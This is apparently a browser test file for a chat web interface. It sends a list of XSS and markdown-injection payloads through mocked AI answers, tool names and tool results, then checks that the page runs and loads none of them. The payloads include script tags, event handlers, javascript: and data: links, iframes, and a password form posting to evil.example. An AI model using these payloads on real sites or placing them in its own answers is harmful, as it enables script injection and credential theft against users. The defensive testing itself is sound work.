import assert from "node:assert/strict";
import { pageTest } from "./setup.js";

// setup.js fails each test in which something runs, or a request goes elsewhere.
const hostile = [
  `<script>alert(1)</script>`,
  `<img src=x onerror="alert(2)">`,
  `![a picture](https://evil.example/track.png)`,
  `![](/docs "x")`,
  `[click](javascript:alert(3))`,
  `[click](JaVaScRiPt&colon;alert(4))`,
  `[data](data:text/html;base64,PHNjcmlwdD5hbGVydCg1KTwvc2NyaXB0Pg==)`,
  `<a href="https://evil.example" onclick="alert(6)" style="position:fixed;inset:0">over all</a>`,
  `<iframe src="https://evil.example"></iframe>`,
  `<svg><animate onbegin=alert(7) attributeName=x dur=1s>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(8)>`,
  `<form action="https://evil.example"><input name=password></form>`,
  `<style>@import url(https://evil.example/a.css); body { display: none }</style>`,
  `<b id="app" name="message">clobber</b>`,
  `[ref]: javascript:alert(9)`,
  `[ref]`,
  "```html\n<script>alert(10)</script>\n```",
  "`<img src=x onerror=alert(11)>`",
  `<https://example.com/good>`,
].join("\n\n");

pageTest("hostile markdown runs nothing and loads nothing", async ({ send, answers, mock, look, page }) => {
  mock.answers.unshift([/evil/, async (run) => run.say(hostile + "\n\nThe end.")]);
  await send("evil");
  await answers.getByText("The end.").waitFor();
  await page.getByRole("button", { name: "Copy the answer" }).waitFor();
  const made = await answers.locator("*").evaluateAll((all) =>
    all.filter((e) => e.closest(".prose")).flatMap((e) => [
      ...(/^(SCRIPT|IMG|IFRAME|STYLE|FORM|INPUT|ANIMATE|MATH|OBJECT|EMBED|LINK)$/i.test(e.tagName) ? [e.outerHTML] : []),
      ...[...e.attributes].filter((a) => /^on|^style$|^id$|^name$/.test(a.name) || /^\s*(javascript|data):/i.test(a.value)).map((a) => e.outerHTML),
    ]));
  assert.deepEqual(made, []);
  const links = await answers.locator("a").evaluateAll((all) => all.map((a) => [a.href, a.rel, a.target]));
  assert.ok(links.length >= 2);
  for (const [href, rel, target] of links) {
    assert.match(href, /^https:\/\/|^$/);
    assert.match(rel, /noopener noreferrer/);
    assert.equal(target, "_blank");
  }
  await answers.getByText("<script>alert(1)</script>").first().waitFor();
  await look("hostile");
  await page.reload();
  await answers.getByText("The end.").waitFor();
});

pageTest("hostile output of a tool, and a hostile title", async ({ page, send, answers, mock }) => {
  mock.answers.unshift([/<img/, async (run) => {
    run.emit("tool_call", { id: "c", name: "<img src=x onerror=alert(1)>", arguments: `{"a":"<script>alert(2)</script>"}` });
    run.emit("tool_result", { id: "c", name: "x", result: hostile + "x".repeat(10_000), duration_ms: 3 });
    await run.say("Done.");
  }]);
  await send(`<img src=x onerror="alert(3)">`);
  await answers.getByText("Done.").waitFor();
  await answers.locator("summary").click();
  await page.getByRole("button", { name: /Show all 1\d,\d+ characters/ }).click();
  await page.getByRole("link", { name: /<img src=x/ }).waitFor();
  assert.equal(await page.locator("img, script:not([src]), iframe").count(), 0);
});

pageTest("the policy of the real program", async ({ page, mock }) => {
  const answer = await page.request.get(mock.url, { headers: { Accept: "text/html" } });
  const policy = answer.headers()["content-security-policy"];
  for (const part of ["default-src 'none'", "script-src 'self'", "frame-ancestors 'none'", "require-trusted-types-for 'script'"]) {
    assert.ok(policy.includes(part), `${policy} has ${part}`);
  }
  assert.ok(!/unsafe|\*/.test(policy), policy);
  const json = await page.request.get(mock.url, { headers: { Accept: "*/*" } });
  assert.match((await json.json()).message, /^Welcome to the DACA Chat Service!/);
});
